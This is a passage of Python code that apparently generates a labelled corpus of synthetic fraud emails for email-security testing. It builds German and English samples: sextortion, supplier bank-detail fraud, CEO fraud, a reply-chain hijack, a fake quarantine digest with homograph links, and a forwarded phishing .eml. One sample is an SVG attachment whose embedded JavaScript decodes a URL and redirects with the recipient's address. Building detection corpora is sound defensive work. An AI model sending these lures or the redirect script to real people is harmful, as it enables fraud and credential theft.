                root=root, mid=p["mid"], extra=eop_extra(p, "en-GB", True, "Application \u2013 Warehouse Operations Supervisor (Ref. MAN-2611)") +
                [("x-ms-reactions", "disallow")])


@A("09", "en", "sextortion-btc-selfspoof", "utf-8",
   "Sextortion/extortion mail spoofing the victim's own address from a foreign VPS (SPF softfail, DMARC fail), demanding USD 1,650 to a bech32 Bitcoin address.")
def a09(key):
    sent = t(4, "03:17:40", 420)
    rcpt = S["whitfield"][1]
    btc = btc_bech32("a09-" + key)
    body = """Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have easily managed to log in to your email account (%s).
As you can see, I sent you this message from your own address.

One week later, I have already installed a Trojan virus to the operating systems of all the devices that you use to access your email.
It was not hard at all (since you were following the links from your inbox emails).
All ingenious is simple. =)

This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.

I have recorded a video showing you satisfying yourself on the left half of the screen, while the right half shows the video you were watching.
With one click of my mouse, I can send this video to all your emails and contacts on social networks, including your colleagues at Example Group.

I think you do not want this to happen.
Just transfer $1650 USD to my Bitcoin wallet (if you do not know how to do this, write in Google: "Buy Bitcoin").

My Bitcoin wallet (BTC):
%s

After receiving the payment, I will delete the video and you will never hear from me again.
You have 50 hours (2 days) from the moment you open this email. The notification will come to me when you open it, and the timer will start.

Filing a complaint somewhere does not make sense because this email cannot be tracked like my Bitcoin address.
I do not make any mistakes.

If I find that you have shared this message with someone else, the video will be immediately distributed.

Best regards!
""" % (rcpt, btc)
    root = text(body, "plain", "utf-8", "base64")
    hop = ("example.com", None, "103.151.172.58", "none")
    ar = auth_res(spf=("softfail", rcpt, hop[2]), dkim=("none", "", ""), dmarc=("fail", "example.com", "quarantine"))
    return mail(key, rp=rcpt, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=("", rcpt), to=[("", rcpt)],
                subject="%s \u2013 your account has been compromised. Change your password!" % rcpt,
                root=root, mid="<%s@example.com>" % hexid(20, "m", key),
                extra=[("X-Priority", "3"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512")])


@A("10", "en", "attendee-list-scam", "windows-1252",
   "Unsolicited 'LogiMAT 2027 attendee list' offer (trade-show data-broker scam) from a throwaway domain with tracking links and a fake opt-out line.")
def a10(key):
    sent = t(30, "14:26:03", -300)
    rcpt = S["vogel"][1]
    plain = """Hi Katrin,

Would you be interested in acquiring the LogiMAT 2027 Attendees Data List?

List includes: Company Name, Contact Name, Title, Email, Phone Number, Address, Website, Industry etc.

Number of Contacts: 41,386
Cost: $1,947

Interested? Reply back with "Send Pricing" for more information.

Best Regards,
Megan Clarke \u2013 Event Data Specialist
ExpoLeads Data Hub

If you don't wish to receive our newsletters, reply back with "Exit" in the subject line.
"""
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Hi Katrin,</p>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Would you be interested in acquiring the <b>LogiMAT 2027 Attendees Data List?</b></p>
<p style="font-family:Calibri,sans-serif;font-size:11pt">List includes: Company Name, Contact Name, Title, Email, Phone Number, Address, Website, Industry etc.</p>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Number of Contacts: <b>41,386</b><br>Cost: <b>$1,947</b></p>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Interested? Reply back with "Send Pricing" for more information.</p>
<p style="font-family:Calibri,sans-serif;font-size:11pt">Best Regards,<br>Megan Clarke \u2013 Event Data Specialist<br><a href="https://links.expo-leadsdata.com/c/%s">ExpoLeads Data Hub</a></p>
<p style="font-family:Calibri,sans-serif;font-size:8pt;color:#888">If you don't wish to receive our newsletters, reply back with "Exit" in the subject line.</p>
<img src="https://links.expo-leadsdata.com/o/%s.gif" width="1" height="1">
</body></html>""" % (hexid(40, "c", key), hexid(40, "o", key))
    root = multi("alternative", [text(plain, "plain", "windows-1252", "quoted-printable"), html(htm, "windows-1252", "quoted-printable")], bnd("ms", key))
    hop = ("mta3.expo-leadsdata.com", "mta3.expo-leadsdata.com", "194.87.219.141", "1.2")
    rp = "bounce-%s@expo-leadsdata.com" % hexid(10, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "expo-leadsdata.com", "mta"), dmarc=("pass", "expo-leadsdata.com", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("expo-leadsdata.com", "mta", "from:to:subject:date:message-id:list-unsubscribe"),
                frm=("Megan Clarke", "megan.clarke@expo-leadsdata.com"), to=[S["vogel"]],
                subject="RE: LogiMAT 2027 Attendees Data List", root=root,
                mid="<%s@expo-leadsdata.com>" % hexid(24, "m", key),
                extra=[("List-Unsubscribe", "<mailto:exit@expo-leadsdata.com?subject=Exit>"), ("X-Mailer", "Microsoft Outlook 16.0")])

LIEFERANT_SIG = """Mit freundlichen Grüßen

Stefan Maier
Key Account Management

Lieferant GmbH | Am Hafen 12 | 91058 Erlangen
Tel. +49 9131 7788-214 | Mobil +49 171 5523908
s.maier@lieferant-gmbh.de | www.lieferant-gmbh.de

Geschäftsführer: Rainer Brückner, Dr. Ute Sommer | Amtsgericht Fürth HRB 11873 | USt-IdNr. DE 812 345 670"""


@A("11", "de", "reply-chain-hijack-sharepoint", "iso-8859-1",
   "Reply-chain hijack from the supplier's genuinely compromised Microsoft 365 mailbox (all authentication passes), continuing a real order thread and pointing to a document on the supplier's own SharePoint that leads to an AiTM login.")
def a11(key):
    sent = t(1, "17:48:12", 60)
    rcpt = S["vogel"][1]
    frm = ("Stefan Maier", "s.maier@lieferant-gmbh.de")
    orig_mid = "<%s@EXG-MBX01.corp.example.com>" % alnum(32, "orig", key, alphabet="0123456789abcdef")
    link = "https://lieferantgmbh-my.sharepoint.com/:b:/g/personal/s_maier_lieferant-gmbh_de/EXk3vQ9mJ8lBi2_uR4tOaPcB0z7Xq1wYd5nH8sK2fL6gTw?e=4aZx9Q"
    body = """Hallo Frau Vogel,

wie heute Vormittag kurz angekündigt, anbei die aktualisierte Auftragsbestätigung mit den neuen Lieferterminen für die Positionen 20 und 30 sowie die korrigierte Rechnung zur Teillieferung.

Wegen der Dateigröße habe ich die Unterlagen auf unserem SharePoint abgelegt:

AB_4500187342_rev2.pdf
%s

Falls Sie zur Anmeldung aufgefordert werden, bitte einfach mit Ihrem Microsoft-Konto bestätigen, das ist eine neue Vorgabe unserer IT für externe Freigaben.

Die Ware für Pos. 20 geht morgen früh bei uns raus, Pos. 30 folgt in KW 50.

%s

________________________________
Von: Katrin Vogel <k.vogel@example.com>
Gesendet: Montag, 30. November 2026 11:02
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: Bestellung 4500187342 - Liefertermin KW 49

Hallo Herr Maier,

können Sie mir bitte den Liefertermin für die Positionen 20 und 30 unserer Bestellung 4500187342 bestätigen? Laut Ihrer AB vom 02.11. war KW 48 vorgesehen, bei uns im Wareneingang ist bisher nichts angekommen.

Falls sich etwas verschiebt, bräuchte ich bitte auch eine korrigierte Rechnung, die Teillieferung vom 24.11. wurde mit dem vollen Betrag berechnet.

Danke und viele Grüße
Katrin Vogel

Einkauf | Example Group
Hafenstraße 4 | 90429 Nürnberg
Tel. +49 911 4080-233
""" % (link, LIEFERANT_SIG)
    htm = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"><style>p{margin:0}</style></head><body lang=\"DE\">"
           "<div style=\"font-family:Calibri,Arial,sans-serif;font-size:11pt\">" +
           _x(body).replace(link, '<a href="%s">%s</a>' % (link, link)).replace("AB_4500187342_rev2.pdf\n", '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/20/pdf.png" width="16" height="16"> <b>AB_4500187342_rev2.pdf</b>\n').replace("\n", "<br>\n") +
           "</div></body></html>")
    p = p_eop(key, sent, "deu")
    root = multi("alternative", [text(body, "plain", "iso-8859-1", "quoted-printable"), html(htm, "iso-8859-1", "quoted-printable")], bnd("outlook", key))
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "lieferant-gmbh.de", "selector1"), dmarc=("pass", "lieferant-gmbh.de", "quarantine"))
    subj = "AW: Bestellung 4500187342 - Liefertermin KW 49"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("lieferant-gmbh.de", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["vogel"]], subject=subj, subj_cs="iso-8859-1", subj_enc="Q", root=root, mid=p["mid"],
                irt=orig_mid, refs=orig_mid, extra=eop_extra(p, "de-DE", False, subj))


@A("12", "de", "lookalike-bank-change-pdf", "iso-8859-15",
   "Look-alike supplier domain (lieferant-gmhb.de) impersonating the supplier's accounts-receivable clerk: 'new bank details' letter as PDF with a valid N26 IBAN and a request to pay an open invoice there.")
def a12(key):
    sent = t(2, "09:36:50", 60)
    rcpt = S["schmitt"][1]
    frm = ("Petra Lang", "p.lang@lieferant-gmhb.de")
    new_iban = iban("DE", "10011001" + "2637418590")
    body = """Sehr geehrter Herr Schmitt,

im Zuge der Umstellung unseres ERP-Systems auf SAP S/4HANA haben wir zum 01.12.2026 auch unsere Hausbank gewechselt. Bitte nehmen Sie die beiliegende Mitteilung zu Ihren Stammdaten und veranlassen Sie alle künftigen Zahlungen ausschließlich auf unsere neue Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: NTSBDEB1XXX

Unsere bisherige Verbindung bei der Sparkasse Erlangen wird zum 15.12.2026 aufgelöst; Zahlungseingänge dorthin können nicht mehr zugeordnet werden.

Dies betrifft auch die noch offene Rechnung 2026-11412 vom 15.10.2026 über 12.480,60 EUR. Wir bitten um kurze Bestätigung per Antwort auf diese E-Mail, sobald die Änderung bei Ihnen hinterlegt ist.

Aus organisatorischen Gründen bin ich in den nächsten Tagen telefonisch nur eingeschränkt erreichbar, bitte schreiben Sie mir daher direkt per E-Mail.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung

Lieferant GmbH | Am Hafen 12 | 91058 Erlangen
Tel. +49 9131 7788-150
p.lang@lieferant-gmbh.de | www.lieferant-gmbh.de
""" % iban_fmt(new_iban)
    pdf = PDF("Mitteilung Bankverbindung", "Petra Lang", "Microsoft® Word für Microsoft 365", sent)
    pdf.line("Lieferant GmbH", 18, True)
    pdf.line("Am Hafen 12 · 91058 Erlangen · Tel. +49 9131 7788-0 · www.lieferant-gmbh.de", 8)
    pdf.rule()
    pdf.y -= 20
    pdf.lines("Example Group\nBuchhaltung / Kreditoren\nHafenstraße 4\n90429 Nürnberg")
    pdf.y -= 10
    pdf.text(420, pdf.y, "Erlangen, 01.12.2026", 10)
    pdf.y -= 30
    pdf.line("Mitteilung über die Änderung unserer Bankverbindung", 12, True)
    pdf.y -= 6
    pdf.lines("Sehr geehrte Damen und Herren,\n\nwir informieren Sie hiermit, dass sich unsere Bankverbindung mit Wirkung zum 01.12.2026\ngeändert hat. Bitte leisten Sie sämtliche Zahlungen ab sofort ausschließlich auf folgendes Konto:\n")
    pdf.rect(56, pdf.y - 50, 483, 62, 0.93)
    pdf.lines("**Kontoinhaber:  Lieferant GmbH\n**IBAN:  %s\n**BIC:  NTSBDEB1XXX\n**Bank:  N26 Bank SE, Berlin" % iban_fmt(new_iban), 10, 66)
    pdf.y -= 12
    pdf.lines("Zahlungen auf unsere bisherige Bankverbindung können ab dem 15.12.2026 nicht mehr\nberücksichtigt werden. Bitte passen Sie Ihre Kreditorenstammdaten entsprechend an.\n\nFür Ihr Verständnis bedanken wir uns.\n\nMit freundlichen Grüßen\n\n\nPetra Lang                                  Rainer Brückner\nDebitorenbuchhaltung                   Geschäftsführer")
    pdf.y = 60
    pdf.line("Lieferant GmbH · Amtsgericht Fürth HRB 11873 · USt-IdNr. DE 812 345 670 · Geschäftsführer: Rainer Brückner, Dr. Ute Sommer", 7)
    root = multi("mixed", [text(body, "plain", "iso-8859-15", "base64"),
                           att(pdf.render(), "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf")],
                 bnd("tb", key), preamble="This is a multi-part message in MIME format.")
    hop = ("mail.lieferant-gmhb.de", "static.88-198-41-207.clients.your-server.de", "88.198.41.207", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "lieferant-gmhb.de", "mail"), dmarc=("pass", "lieferant-gmhb.de", "none"))
    chain = ["from [192.168.2.104] (unknown [185.220.101.47])%s\t(Authenticated sender: p.lang@lieferant-gmhb.de)%s\tby mail.lieferant-gmhb.de (Postfix) with ESMTPSA id 4F1B21A2C4%s\tfor <%s>; %s" % (CRLF, CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("lieferant-gmhb.de", "mail", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=frm, to=[S["schmitt"]], subject="Änderung unserer Bankverbindung zum 01.12.2026 - Lieferant GmbH",
                subj_cs="iso-8859-15", subj_enc="Q", root=root, mid="<%s@lieferant-gmhb.de>" % (hexid(8, "m", key) + "-" + hexid(4, "m2", key) + "-" + hexid(4, "m3", key) + "-" + hexid(4, "m4", key) + "-" + hexid(12, "m5", key)),
                extra=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "de-DE")])


@A("13", "de", "ceo-fraud-project-adler", "iso-8859-1",
   "CEO fraud: 'Markus Hoffmann' writing from the hyphenated look-alike domain example-group.eu (own Microsoft 365 trial tenant, authentication passes) to the CFO about a confidential acquisition payment, requesting secrecy and the daily transfer limit.")
def a13(key):
    sent = t(3, "08:57:21", 60)
    rcpt = S["krueger"][1]
    frm = ("Markus Hoffmann", "m.hoffmann@example-group.eu")
    body = """Guten Morgen Sabine,

ich brauche heute Deine Unterstützung in einer vertraulichen Angelegenheit. Wir stehen kurz vor dem Abschluss der Übernahme eines Wettbewerbers (intern "Projekt Adler"). Bis zur offiziellen Bekanntgabe unterliegt die Transaktion strikter Vertraulichkeit - bitte sprich mit niemandem im Haus darüber, auch nicht mit der Buchhaltung oder dem Controlling.

Herr Dr. Keller von der Kanzlei Lindner & Partner begleitet die Transaktion und wird sich im Laufe des Vormittags per E-Mail bei Dir melden. Er schickt Dir die Unterlagen zur Anzahlung auf das Treuhandkonto. Die Zahlung muss heute noch mit Valuta heute ausgeführt werden, sonst verfällt die Exklusivität.

Ich bin den ganzen Tag in Verhandlungen in Frankfurt und telefonisch nicht erreichbar. Bitte kommuniziere in dieser Sache ausschließlich über diese E-Mail-Adresse, die Adresse wurde von der Kanzlei eigens für das Projekt eingerichtet.

Kannst Du mir kurz bestätigen, dass Du heute im Büro bist, und mir sagen, wie hoch aktuell unser Tageslimit für Auslandsüberweisungen ist?

Danke Dir
Markus

Von meinem iPad gesendet
"""
    p = p_eop(key, sent, "eur")
    root = text(body, "plain", "iso-8859-1", "8bit")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "example-group.eu", "selector1"), dmarc=("pass", "example-group.eu", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("example-group.eu", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["krueger"]], subject="Vertraulich - Projekt Adler", subj_cs="iso-8859-1", root=root, mid=p["mid"],
                extra=eop_extra(p, "de-DE", False, "Vertraulich - Projekt Adler") + [("X-Priority", "1"), ("Importance", "high")])


@A("14", "de", "fake-quarantine-idn", "utf-8",
   "Fake spam-quarantine digest imitating the company's own gateway, sent via Amazon SES from a new domain; 'release' buttons point to an IDN homograph of mx01.example.com (Cyrillic 'е', punycode) with the victim's address.")
def a14(key):
    sent = t(2, "06:05:33", 60)
    rcpt = S["vogel"][1]
    host = "mx01.\u0435xample.com".encode("idna").decode("ascii")
    items = [("s.maier@lieferant-gmbh.de", "Rechnung 2026-11873 / Bestellung 4500187342", "01.12.2026 16:41", "412 KB"),
             ("noreply@dhl.de", "Ihre Sendung 00340434161094015902 - Zustellversuch", "01.12.2026 18:09", "38 KB"),
             ("angebote@regalwerk24.de", "Ihr Angebot Palettenregale (Anfrage 11/2026)", "01.12.2026 20:12", "1,2 MB"),
             ("t.zielinski@partner-logistik.pl", "RE: Plan transportów grudzień", "01.12.2026 22:30", "96 KB"),
             ("einladung@ihk-nuernberg.de", "Einladung: Jahresempfang der Wirtschaft 2027", "02.12.2026 05:48", "154 KB")]
    rows = []
    for i, (s, subj, d, size) in enumerate(items):
        mid = hexid(20, "q", key, i)
        rel = "https://%s/quarantine/release?id=%s&amp;u=%s" % (host, mid, rcpt)
        rows.append('<tr><td style="padding:8px;border-bottom:1px solid #e5e5e5">%s</td><td style="padding:8px;border-bottom:1px solid #e5e5e5">%s</td>'
                    '<td style="padding:8px;border-bottom:1px solid #e5e5e5;white-space:nowrap">%s</td><td style="padding:8px;border-bottom:1px solid #e5e5e5">%s</td>'
                    '<td style="padding:8px;border-bottom:1px solid #e5e5e5"><a href="%s" style="background:#2b7a0b;color:#fff;padding:4px 10px;text-decoration:none;border-radius:3px">Zustellen</a></td></tr>' % (
                        s, subj, d, size, rel))
    body = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Quarantäne-Zusammenfassung</title></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#222;background:#f4f4f4;margin:0">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="720" cellpadding="0" cellspacing="0" style="background:#fff;border:1px solid #ddd">
<tr><td style="background:#1c3f6e;color:#fff;padding:16px 20px;font-size:17px"><b>Example Group</b> &middot; E-Mail-Sicherheit &middot; mx01.example.com</td></tr>
<tr><td style="padding:20px">
<p>Guten Morgen,</p>
<p>für das Postfach <b>%(rcpt)s</b> wurden seit der letzten Zusammenfassung <b>5 Nachrichten</b> zurückgehalten, da sie von der Richtlinie als möglicher Spam eingestuft wurden. Bitte prüfen Sie die Nachrichten. Nicht freigegebene Nachrichten werden nach <b>72 Stunden automatisch gelöscht</b>.</p>
<table width="100%%" cellpadding="0" cellspacing="0" style="font-size:12px">
<tr style="background:#f0f0f0"><th align="left" style="padding:8px">Absender</th><th align="left" style="padding:8px">Betreff</th><th align="left" style="padding:8px">Empfangen</th><th align="left" style="padding:8px">Größe</th><th></th></tr>
%(rows)s
</table>
<p style="margin-top:18px"><a href="https://%(host)s/quarantine/release-all?u=%(rcpt)s">Alle Nachrichten zustellen</a> &middot; <a href="https://%(host)s/quarantine/login?u=%(rcpt)s">Quarantäne-Portal öffnen</a></p>
<p style="font-size:11px;color:#777">Diese Zusammenfassung wird automatisch vom E-Mail-Gateway erstellt. Bei Fragen wenden Sie sich an den IT-Service (Durchwahl -400).</p>
</td></tr></table></td></tr></table></body></html>
""" % dict(rcpt=rcpt, rows="\n".join(rows), host=host)
    root = html(body, "utf-8", "base64")
    hop = ("e242-8.smtp-out.eu-central-1.amazonses.com", "e242-8.smtp-out.eu-central-1.amazonses.com", "23.251.242.8", "1.3")
    rp = "01070193%s-%s-%s-%s-%s-000000@eu-central-1.amazonses.com" % (hexid(8, "s1", key), hexid(8, "s2", key), hexid(4, "s3", key), hexid(4, "s4", key), hexid(12, "s5", key))
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "mailsecure-gw.com", "x7kqo3v2"), dmarc=("pass", "mailsecure-gw.com", "none"),
                  extra=["dkim=pass (1024-bit key) header.d=amazonses.com header.i=@amazonses.com header.a=rsa-sha256 header.s=e3d6nbzq header.b=%s" % alnum(8, "ses", key)])
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("mailsecure-gw.com", "x7kqo3v2", "Content-Type:From:To:Subject:Message-ID:Content-Transfer-Encoding:Date:MIME-Version"),
                frm=("E-Mail-Sicherheit | Example Group", "quarantine@mailsecure-gw.com"), to=[S["vogel"]],
                subject="Spam-Quarantäne: 5 neue Nachrichten für %s (Zusammenfassung 02.12.2026)" % rcpt, root=root,
                mid="<01070193%s@eu-central-1.amazonses.com>" % hexid(48, "sesmid", key),
                extra=[("Feedback-ID", "::1.eu-central-1.%s:AmazonSES" % alnum(43, "fb", key)), ("X-SES-Outgoing", "2026.12.02-23.251.242.8")])


@A("15", "de", "password-zip-js-reminder", "windows-1252",
   "Payment reminder from a compromised small-business IONOS mailbox carrying a password-protected (ZipCrypto) archive with a '.pdf.js' script placeholder; the password is in the message body to defeat sandboxes.")
def a15(key):
    sent = t(1, "11:14:07", 60)
    rcpt = S["schmitt"][1]
    frm = ("Buchhaltung | Kunz Metallbau GmbH", "buchhaltung@kunz-metallbau.de")
    body = """Sehr geehrte Damen und Herren,

trotz unserer Rechnung RE-2026-4471 vom 03.11.2026 konnten wir bis heute leider keinen Zahlungseingang feststellen. Anbei erhalten Sie die Rechnungskopie sowie den Auszug der offenen Posten.

Aus Datenschutzgründen (DSGVO) ist das Dokument passwortgeschützt.
Passwort: 4471

Wir bitten um Ausgleich des offenen Betrages bis zum 09.12.2026. Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben, betrachten Sie es bitte als gegenstandslos.

Mit freundlichen Grüßen

i.A. Melanie Kunz
Buchhaltung

Kunz Metallbau GmbH
Industriestraße 27 · 90765 Fürth
Tel. 0911 97 14 33-12 · Fax 0911 97 14 33-99
buchhaltung@kunz-metallbau.de · www.kunz-metallbau.de
Geschäftsführer: Walter Kunz · Amtsgericht Fürth HRB 8812
"""
    js = b"// " + placeholder("JScript dropper", "RE-2026-4471.pdf.js")
    z = mkzip_encrypted([("RE-2026-4471.pdf.js", js)], "4471", when=(2026, 12, 1, 10, 58, 40))
    root = multi("mixed", [text(body, "plain", "windows-1252", "quoted-printable"),
                           att(z, "application/zip", "RE-2026-4471.zip")],
                 bnd("ms", key), preamble="This is a multi-part message in MIME format.")
    hop = ("mout.kundenserver.de", "mout.kundenserver.de", "212.227.126.187", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "kunz-metallbau.de", "s1-ionos"), dmarc=("pass", "kunz-metallbau.de", "none"))
    chain = ["from DESKTOP-7H2KQ0L ([45.88.97.203]) by mrelayeu.kundenserver.de%s\t(mreue011 [213.165.67.97]) with ESMTPSA (Nemesis) id 1M%s; %s" % (
        CRLF, alnum(19, "nem", key), sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("kunz-metallbau.de", "s1-ionos", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=frm, to=[S["schmitt"]], subject="Zahlungserinnerung RE-2026-4471 - offene Posten",
                subj_cs="windows-1252", root=root, mid="<%s$%s$%s@kunz-metallbau.de>" % (hexid(12, "a", key), hexid(8, "b", key), hexid(8, "c", key)),
                extra=[("X-Mailer", "Microsoft Outlook 15.0"), ("Thread-Index", "Ad" + b64blob(20, "ti", key)[:26]),
                       ("Content-Language", "de"), ("X-Provags-ID", "V03:K1:" + b64blob(60, "pv", key)[:70]),
                       ("X-Spam-Flag", "NO"), ("UI-OutboundReport", "notjunk:1;M01:P0:" + b64blob(30, "ui", key)[:36])])


@A("16", "de", "fax-svg-redirect", "utf-8",
   "Fake eFax notification with an SVG 'fax' attachment containing JavaScript that base64-decodes a pages.dev URL and redirects with the recipient's address appended.")
def a16(key):
    sent = t(2, "09:15:44", 60)
    rcpt = S["fischer"][1]
    target = "https://efax-viewer-7f2.pages.dev/doc/v?id=20261202-0915"
    enc = base64.b64encode(target.encode()).decode()
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="794" height="1123" viewBox="0 0 794 1123">
<rect width="794" height="1123" fill="#ffffff"/>
<rect x="60" y="60" width="674" height="90" fill="#f2f2f2"/>
<text x="80" y="100" font-family="Arial" font-size="22" fill="#333">eFax Dokument wird geladen ...</text>
<text x="80" y="130" font-family="Arial" font-size="14" fill="#777">3 Seite(n) - Absender +49 911 2345678</text>
<script type="text/javascript"><![CDATA[
(function(){var r="%s",m="%s";var a=[];for(var i=0;i<r.length;i++){a.push(r[i]);}
var u=atob(a.join(""));setTimeout(function(){window.location.href=u+"&e="+btoa(m);},600);})();
]]></script>
</svg>
""" % (enc, rcpt)
    body = """Sie haben ein neues Fax erhalten.

Absender:     +49 911 2345678
Empfänger:    Example Group Zentrale (Fax 0911 4080-199)
Datum:        02.12.2026 09:15
Seiten:       3
Auflösung:    Fein (200x200 dpi)
Referenz:     EFX-%s

Das Dokument ist dieser Nachricht als Anhang beigefügt. Zum Öffnen auf den Anhang doppelklicken; das Dokument wird in Ihrem Browser angezeigt.

--
eFax Messaging Service - Fax-to-Mail
Diese Nachricht wurde automatisch generiert. Bitte antworten Sie nicht auf diese E-Mail.
""" % hexid(10, "ref", key).upper()
    root = multi("mixed", [text(body, "plain", "utf-8", "quoted-printable"),
                           att(svg.encode("utf-8"), "image/svg+xml", "Fax_20261202_0915_3S.svg")], bnd("javamail", key))
    hop = ("smtp2.efax-messaging.net", "vmi2381047.contaboserver.net", "161.97.184.22", "1.3")
    rp = "bounce@efax-messaging.net"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "efax-messaging.net", "k1"), dmarc=("pass", "efax-messaging.net", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("efax-messaging.net", "k1", "from:to:subject:date:message-id"),
                frm=("eFax Benachrichtigung", "noreply@efax-messaging.net"), to=[S["fischer"]],
                subject="Neues Fax von +49 911 2345678 - 3 Seite(n) empfangen", root=root,
                mid=msgid_generic(key, "efax-messaging.net", "uuid"))


@A("17", "de", "fwd-eml-zahlungsavis", "iso-8859-15",
   "Forward from a compromised property-management mailbox carrying an attached .eml 'Sparkasse payment advice' whose HTML links to a phishing page, hiding the lure one MIME level deeper.")
def a17(key):
    sent = t(3, "14:22:10", 60)
    rcpt = S["krueger"][1]
    frm = ("Hausverwaltung Roth", "info@hausverwaltung-roth.de")
    inner_sent = t(3, "13:58:02", 60)
    link = "https://sparkasse-nuernberg.avis-online.top/avis/anzeigen?ref=ZA-%s&k=%s" % (hexid(8, "za", key).upper(), hexid(16, "k", key))
    inner_html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#000">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#ff0000;height:6px"></td></tr>
<tr><td style="padding:18px 0"><b style="font-size:20px;color:#ff0000">Sparkasse</b><br><span style="font-size:12px">Nürnberg</span></td></tr>
<tr><td>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>zu einer an Sie adressierten Überweisung wurde ein <b>Zahlungsavis</b> hinterlegt.</p>
<table cellpadding="4" style="font-size:13px"><tr><td>Auftraggeber:</td><td>Hausverwaltung Roth GmbH</td></tr>
<tr><td>Betrag:</td><td>18.640,00 EUR</td></tr><tr><td>Ausführung:</td><td>03.12.2026</td></tr>
<tr><td>Verwendungszweck:</td><td>Rückerstattung Kaution / NK-Abrechnung 2025</td></tr></table>
<p>Aus Sicherheitsgründen kann das vollständige Avis nur nach Anmeldung eingesehen werden.</p>
<p><a href="%s" style="background:#ff0000;color:#fff;padding:10px 18px;text-decoration:none">Zahlungsavis anzeigen</a></p>
<p style="font-size:11px;color:#666">Sparkasse Nürnberg &middot; Lorenzer Platz 12 &middot; 90402 Nürnberg<br>Diese E-Mail wurde automatisch erstellt.</p>
</td></tr></table></body></html>""" % link
    inner_root = html(inner_html, "utf-8", "quoted-printable")
    inner = build([("From", addr("Sparkasse Nürnberg", "avis@sparkasse-nuernberg-zahlungsavis.de")),
                   ("To", "info@hausverwaltung-roth.de"),
                   ("Subject", ew("Zahlungsavis zu Ihrer Überweisung vom 03.12.2026", "utf-8", "Q", 9)),
                   ("Date", inner_sent.rfc()),
                   ("Message-ID", msgid_generic(key + "inner", "sparkasse-nuernberg-zahlungsavis.de"))], inner_root)
    body = """Sehr geehrte Damen und Herren,

anbei leite ich Ihnen das Zahlungsavis unserer Bank zur Kenntnis weiter. Die Überweisung betrifft die Rückerstattung der Mietkaution bzw. das Guthaben aus der Nebenkostenabrechnung 2025 für die Lagerfläche Hafenstraße.

Bitte prüfen Sie den Eingang und geben Sie uns kurz Bescheid.

Mit freundlichen Grüßen

Jürgen Roth
Hausverwaltung Roth GmbH
Fürther Straße 212 · 90429 Nürnberg
Tel. 0911 32 55 81-0
"""
    root = multi("mixed", [text(body, "plain", "iso-8859-15", "quoted-printable"),
                           msg_att(inner, "Zahlungsavis_03122026.eml", "7bit")], bnd("tb", key))
    hop = ("smtp.hausverwaltung-roth.de", "mail.hausverwaltung-roth.de", "217.160.0.76", "1.2")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "hausverwaltung-roth.de", "default"), dmarc=("pass", "hausverwaltung-roth.de", "none"))
    chain = ["from [172.16.4.22] (unknown [193.42.33.118])%s\t(Authenticated sender: info@hausverwaltung-roth.de)%s\tby smtp.hausverwaltung-roth.de (Postfix) with ESMTPSA id 7DB3C80F21%s\tfor <%s>; %s" % (
